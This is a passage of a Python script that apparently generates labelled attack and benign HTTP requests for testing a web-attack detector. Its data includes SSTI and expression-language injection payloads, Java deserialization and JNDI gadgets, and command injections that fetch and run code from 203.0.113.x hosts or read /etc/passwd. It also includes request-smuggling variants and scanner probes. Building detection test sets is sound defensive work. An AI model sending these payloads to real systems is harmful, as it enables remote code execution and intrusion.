        dict(method="GET", host="api.acme.io", path="/api/v1/orders", params=[("sort", "T(java.lang.Runtime).getRuntime().exec('id')")]),
        dict(method="GET", host="api.acme.io", path="/api/search", params=[("q", "lamp"), ("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i")]),
        dict(method="GET", host="search.acme.io", path="/search", params=[("q", "lamp")], browser=True,
             cookie="searchState=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3LjoYjqcyKkSAIAAkwACmNvbXBhcmF0b3JxAH4AAUwACHByb3BlcnR5dAASTGphdmEvbGFuZy9TdHJpbmc7eHA"),
        dict(method="POST", host="api.acme.io", path="/api/search/advanced",
             body=js({"filter": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.9:1389/Exploit", "autoCommit": True}})),
        dict(method="POST", host="api.acme.io", path="/api/reports/query",
             body=js({"query": "status:open", "format": ["org.springframework.context.support.ClassPathXmlApplicationContext", "http://203.0.113.9/spel.xml"]})),
        dict(method="GET", host="api.acme.io", path="/api/search", params=[("q", "#{T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.9/j')}")]),
    ]


SSTI = [
    "{{7*'7'}} errors",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "<%= `id` %>",
    "{php}system('id');{/php}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')()}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
]


@attack_gen("ssti", "saved_search_title")
def a_ssti(r):
    out = []
    for i, p in enumerate(SSTI):
        k = i % 4
        if k == 0:
            out.append(dict(method="POST", host="kibana.acme.io", path="/api/saved_objects/search", browser=True, cookie=kibana_cookie(r), extra=kibana_hdrs(r),
                            body=js({"attributes": {"title": p, "kibanaSavedObjectMeta": {"searchSourceJSON": js({"query": {"query": "*", "language": "kuery"}})}}})))
        elif k == 1:
            out.append(dict(method="POST", host="splunk.acme.io:8089", path="/servicesNS/nobody/search/saved/searches", ctype="application/x-www-form-urlencoded",
                            body=form([("name", p), ("search", "index=web status>=500")]), extra=[["Authorization", "Splunk %s" % uuid(r)]]))
        elif k == 2:
            out.append(dict(method="PUT", host="search.acme.io", path="/api/saved-searches/%d" % r.randint(1, 999), browser=True, cookie="session=%s" % hexid(r, 32),
                            body=js({"title": p, "query": "status:open", "notify": True})))
        else:
            out.append(dict(method="GET", host="search.acme.io", path="/saved/preview", params=[("title", p), ("q", "lamp")], qstyle=pick_style(r), browser=True,
                            accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"))
    return out


@attack_gen("rce", "command_injection")
def a_rce(r):
    return [
        dict(method="GET", host="reports.acme.io", path="/api/export", params=[("format", "csv;id"), ("q", "status:open")]),
        dict(method="GET", host="reports.acme.io", path="/api/export", params=[("filename", "report.csv|curl http://203.0.113.4/x|sh")]),
        dict(method="GET", host="netops.acme.io", path="/api/tools/lookup", params=[("host", "search.acme.io;cat /etc/passwd")]),
        dict(method="GET", host="logs.acme.io", path="/api/v1/grep", params=[("regex", "error' /var/log/app.log; wget http://203.0.113.4/b -O /tmp/b; chmod +x /tmp/b; /tmp/b #")]),
        dict(method="GET", host="logs.acme.io", path="/api/v1/grep", params=[("regex", "$(curl -s http://203.0.113.4/p|bash)")]),
        dict(method="POST", host="splunk.acme.io:8089", path="/services/search/jobs", ctype="application/x-www-form-urlencoded",
             body=form([("search", "| makeresults | runshellscript \"../../../../../bin/sh -c id\" \"\" \"\" \"\" \"\" \"\" \"\" \"\""), ("output_mode", "json")])),
        dict(method="POST", host="splunk.acme.io:8089", path="/services/search/jobs", ctype="application/x-www-form-urlencoded",
             body=form([("search", "| script python ../../../../tmp/rev.py"), ("exec_mode", "oneshot")])),
        dict(method="GET", host="data.acme.io", path="/api/dataframe/query", params=[("expr", "@pd.io.common.os.system('id')")]),
        dict(method="POST", host="api.acme.io", path="/api/formulas/evaluate", body=js({"formula": "__import__('os').popen('id').read()", "row": {"qty": 2}})),
        dict(method="GET", host="jq.acme.io", path="/api/jq", params=[("filter", ".items[] | select(.a == `touch /tmp/pwn`)")]),
        dict(method="GET", host="search.acme.io", path="/api/search", params=[("q", "lamp\nwget http://203.0.113.4/s -O- | sh")]),
    ]


@attack_gen("protocol", "smuggling")
def a_proto_smug(r):
    b1 = '0\r\n\r\nPOST /_bulk HTTP/1.1\r\nHost: es.internal.acme.io\r\nContent-Length: 20\r\n\r\n'
    b2 = '{"query":{"match_all":{}}}'
    out = []
    out.append(dict(method="POST", host="search-prod.acme.io", path="/_search", body=b1, ctype="application/json", no_cl=True,
                    extra=[["Content-Length", "4"], ["Transfer-Encoding", "chunked"]]))
    out.append(dict(method="POST", host="search-prod.acme.io", path="/_search", body=b2, no_cl=True,
                    extra=[["Content-Length", str(len(b2))], ["Content-Length", "0"]]))
    out.append(dict(method="POST", host="api.acme.io", path="/graphql", body=b1, no_cl=True,
                    extra=[["Transfer-Encoding", "xchunked"], ["Content-Length", "5"]]))
    out.append(dict(method="POST", host="api.acme.io", path="/graphql", body=b1, no_cl=True,
                    extra=[["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"], ["Content-Length", "4"]]))
    out.append(dict(method="POST", host="kibana.acme.io", path="/internal/search/es", body=b1, no_cl=True,
                    extra=[["Content-Length", "4"], ["Transfer-Encoding", " chunked"]]))
    out.append(dict(method="GET", host="search.acme.io", path="/solr/products/select%00.json", params=[("q", "*:*")]))
    return out


SCAN_UAS = ["Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", "sqlmap/1.8.11#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000862)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "graphql-cop/1.13",
            "Fuzz Faster U Fool v2.1.0-dev", "gobuster/3.6", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"]


@attack_gen("scanner", "service_probes")
def a_scan(r):
    probes = [
        ("GET", "es.acme.io", "/_cat/indices", [("v", "")], SCAN_UAS[0], None),
        ("GET", "es.acme.io", "/_cluster/settings", [("include_defaults", "true")], SCAN_UAS[0], None),
        ("GET", "es.acme.io", "/_nodes/stats", None, SCAN_UAS[3], None),
        ("GET", "search.acme.io", "/solr/admin/cores", [("action", "STATUS"), ("wt", "json")], SCAN_UAS[0], None),
        ("GET", "search.acme.io", "/solr/admin/info/system", [("wt", "json")], SCAN_UAS[4], None),
        ("GET", "kibana.acme.io", "/.kibana/_search", [("q", "type:config")], SCAN_UAS[2], None),
        ("GET", "prometheus.acme.io", "/api/v1/status/config", None, SCAN_UAS[0], None),
        ("POST", "api.acme.io", "/graphql", None, SCAN_UAS[6],
         js({"query": "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { kind name fields(includeDeprecated: true) { name args { name type { name kind ofType { name kind } } } } } } }"})),
        ("GET", "splunk.acme.io:8089", "/services/server/info", None, SCAN_UAS[2], None),
        ("GET", "neo4j.acme.io:7474", "/db/data/", None, SCAN_UAS[5], None),
        ("GET", "sparql.data.acme.io", "/sparql", [("query", "SELECT * WHERE { ?s ?p ?o } LIMIT 1")], SCAN_UAS[0], None),
        ("GET", "clickhouse.acme.io:8123", "/", [("query", "SELECT version()")], SCAN_UAS[5], None),
        ("GET", "grafana.acme.io", "/api/datasources", None, SCAN_UAS[0], None),
        ("POST", "prometheus.acme.io", "/api/v1/admin/tsdb/snapshot", None, SCAN_UAS[0], ""),
        ("GET", "search.acme.io", "/api/search", [("q", "1 AND 1=1")], SCAN_UAS[1], None),
        ("GET", "es.acme.io", "/_search", [("q", "*"), ("size", "1")], SCAN_UAS[7], None),
        ("GET", "search.acme.io", "/solr/", None, SCAN_UAS[8], None),
        ("GET", "metabase.acme.io", "/api/session/properties", None, SCAN_UAS[0], None),
        ("GET", "es.acme.io", "/_cat/nodes", [("v", "")], "python-requests/2.32.3", None),
        ("GET", "search.acme.io", "/solr/admin/cores", [("action", "STATUS")], "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
         None),
    ]
    out = []
    for m, h, p, params, ua, body in probes:
        a = dict(method=m, host=h, path=p, params=params, ua=ua)
        if body is not None:
            a["body"] = body
        if "Nikto" in ua or "Nuclei" in ua:
            a["extra"] = [["Connection", "close"]]
        out.append(a)
    return out


# ---------------------------------------------------------------------------
# assembly
# ---------------------------------------------------------------------------

def attacks():
    out = []
    counters = {}
    for cat, name, fn in ATTACKS:
        r = random.Random("attack-" + name)
        for a in fn(r):
            key = (cat, name)
            counters[key] = counters.get(key, 0) + 1
            rid = "%s/%s/%s-%03d" % (SET, cat, name, counters[key])
            out.append(mk(rid, cat, "detect", a, r))
    return out


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write(__doc__.split("How to run")[1].split("Each output")[0])
        sys.exit(2)
    if sys.argv[1] == "stats":
        from collections import Counter
        a, b = attacks(), benign()
        sys.stderr.write("attacks %d %s\n" % (len(a), dict(Counter(x["category"] for x in a).most_common())))
        sys.stderr.write("benign %d %s\n" % (len(b), dict(Counter(x["category"] for x in b).most_common())))
        ids = [x["id"] for x in a + b]
        assert len(ids) == len(set(ids)), "duplicate ids"
        return
    for d in (attacks() if sys.argv[1] == "attacks" else benign()):
        sys.stdout.write(json.dumps(d, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
